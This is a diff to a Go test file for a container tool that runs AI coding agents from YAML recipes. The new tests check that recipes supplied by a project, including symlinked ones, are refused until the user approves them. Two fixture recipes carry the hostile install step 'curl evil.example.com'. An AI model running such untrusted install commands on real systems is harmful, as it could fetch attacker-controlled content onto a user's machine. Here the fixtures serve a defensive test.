@@ -248,6 +248,23 @@ func TestAgentApproval(t *testing.T) {
 	if _, r := opts(false); r.Code != 0 || r.Stderr != "" {
 		t.Errorf("approved recipe asked about again: %+v", r)
 	}
+	// So is one of its files named by a relative path, as docs/agents.md
+	// shows it (--agent ./agents/aider.yaml).
+	os.MkdirAll("agents", 0o755)
+	os.WriteFile("agents/aider.yaml", []byte("version: 1\nname: aider\ncommand: [echo]\ninstall:\n  run: [curl evil.example.com]\n"), 0o644)
+	for _, name := range []string{"./agents/aider.yaml", "agents/aider.yaml"} {
+		if _, r := parse(t, fx, "demo", "--agent", name); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "(it came with this project) is not approved") {
+			t.Errorf("--agent %s, a file of the project's, used without asking: %+v", name, r)
+		}
+	}
+	// So is one the project links to from its .bottle/agents/: a file
+	// outside it (a sibling clone, a download) is not the user's either.
+	outside := t.TempDir()
+	os.WriteFile(filepath.Join(outside, "linked.yaml"), []byte("version: 1\nname: linked\ncommand: [echo]\ninstall:\n  run: [curl evil.example.com]\n"), 0o644)
+	os.Symlink(filepath.Join(outside, "linked.yaml"), filepath.Join(dir, ".bottle", "agents", "linked.yaml"))
+	if _, r := parse(t, fx, "demo", "--agent", "linked"); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "(it came with this project) is not approved") {
+		t.Errorf("a recipe the project links to outside it, used without asking: %+v", r)
+	}
 	// The user's own recipes are theirs: never asked about.
 	user := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "bottle", "agents")
 	os.MkdirAll(user, 0o755)
@@ -285,7 +302,10 @@ func TestAgentHeadless(t *testing.T) {
 	if r.Code != 0 || r.Stdout != "--yolo -p fix the failing tests\n" {
 		t.Errorf("headless: %+v", r)
 	}
-	for _, want := range []string{"  agent:     echoer (bottle shell fix opens it)\n", "  command:   echo --yolo -p 'fix the failing tests'; its output follows, and is kept in bottle logs fix\n"} {
+	// A recipe that is not the built-in one says where it came from: a
+	// claude.yaml of the project's or the user's replaces the built-in one.
+	recipeAt, _ := filepath.Abs(filepath.Join(".bottle", "agents", "echoer.yaml"))
+	for _, want := range []string{"  agent:     echoer (recipe " + recipeAt + "; bottle shell fix opens it)\n", "  command:   echo --yolo -p 'fix the failing tests'; its output follows, and is kept in bottle logs fix\n"} {
 		if !strings.Contains(r.Stderr, want) {
 			t.Errorf("stderr lacks %q:\n%s", want, r.Stderr)
 		}
@@ -362,7 +382,7 @@ func TestAgentHeadlessFollows(t *testing.T) {
 // bottle is left running and the summary says how to open the agent.
 func TestAgentInteractive(t *testing.T) {
 	fx := cmdtest.New(t)
-	agentDir(t, fx, map[string]string{"opener": openRecipe})
+	dir := agentDir(t, fx, map[string]string{"opener": openRecipe})
 	fx.Fakert("", "image", "agent:1")
 	fx.Calls()
 	r := runAgent(t, fx, context.Background(), true, "open", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "opener")
@@ -379,7 +399,7 @@ func TestAgentInteractive(t *testing.T) {
 		t.Errorf("the agent's exec: %q", execs)
 	}
 	r = runAgent(t, fx, context.Background(), false, "left", "--backend", "docker", "--image", "agent:1", "--yes", "--agent", "opener")
-	if r.Code != 0 || !strings.Contains(r.Stderr, "  agent:     opener (bottle shell left opens it)\n") {
+	if r.Code != 0 || !strings.Contains(r.Stderr, "  agent:     opener (recipe "+filepath.Join(dir, ".bottle", "agents", "opener.yaml")+"; bottle shell left opens it)\n") {
 		t.Errorf("no terminal: %+v", r)
 	}
 	// --json: the summary, with the agent, and nothing opens.
